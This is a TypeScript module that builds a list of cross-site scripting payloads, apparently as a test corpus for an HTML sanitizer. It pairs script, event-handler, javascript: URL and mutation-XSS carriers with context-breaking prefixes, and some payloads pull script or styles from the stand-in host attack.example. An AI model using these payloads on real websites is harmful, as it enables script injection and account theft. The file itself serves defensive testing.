/** What runs a script in a page that lets it, each written so that `attack` would be called. */
const carriers = [
  '<script>attack()</script>',
  '<ScRiPt>attack()</sCrIpT>',
  '<script/x>attack()</script>',
  '<script\n>attack()</script\n>',
  '<script src=https://attack.example/a.js></script>',
  '<script src=//attack.example/a.js></script>',
  '<script type=module>import("https://attack.example/a.js")</script>',
  '<scr<script>ipt>attack()</scr</script>ipt>',
  '<img src=x onerror=attack()>',
  '<img src=x onerror="attack()">',
  '<img/src=x/onerror=attack()>',
  '<img src=https://attack.example/a.png>',
  '<img srcset="https://attack.example/a.png 1x">',
  '<image src=x onerror=attack()>',
  '<svg onload=attack()>',
  '<svg/onload=attack()>',
  '<svg><script>attack()</script></svg>',
  '<svg><script href=data:,attack() />',
  '<svg><animate onbegin=attack() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:attack()"><text y=20>a</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=attack()>#x">',
  '<math><mtext></form><form><mglyph><style></math><img src=x onerror=attack()>',
  '<math href="javascript:attack()">a</math>',
  '<body onload=attack()>',
  '<iframe src="javascript:attack()"></iframe>',
  '<iframe srcdoc="<script>parent.attack()</script>"></iframe>',
  '<object data="javascript:attack()"></object>',
  '<embed src="javascript:attack()">',
  '<a href="javascript:attack()" autofocus onfocus=attack()>a</a>',
  '<input autofocus onfocus=attack()>',
  '<select autofocus onfocus=attack()>',
  '<details open ontoggle=attack()>',
  '<video><source onerror=attack()></video>',
  '<audio src=x onerror=attack()>',
  '<marquee onstart=attack()>a</marquee>',
  '<style>@import "https://attack.example/a.css";</style>',
  '<style>*{background:url(https://attack.example/a.png)}</style>',
  '<link rel=stylesheet href=https://attack.example/a.css>',
  '<base href=https://attack.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:attack()">',
  '<form action="javascript:attack()"><button autofocus onfocus=attack()>a',
  '<template><script>attack()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=attack()>">',
  '<custom-a autofocus tabindex=1 onfocus=attack()>',
  '<p style="animation:a" onanimationstart=attack()>',
  '{{constructor.constructor("attack()")()}}',
];

/** How a text gets out of what it stands in: text, attributes of either quote, elements that end with a name, comments, data. */
const exits = [
  '',
  `'">`,
  '</title></textarea></style></script>',
  '--!>]]>',
  '</mark></bdi></a></p>',
  '" autofocus onfocus=attack() x="',
];

/** Every carrier behind every exit. */
export const payloads: readonly string[] = carriers.flatMap((carrier) => exits.map((exit) => exit + carrier));

/** A few of them, with every exit: all are tried by `npm run prove`. */
export const somePayloads = payloads.filter((_, n) => n % 35 === 0);
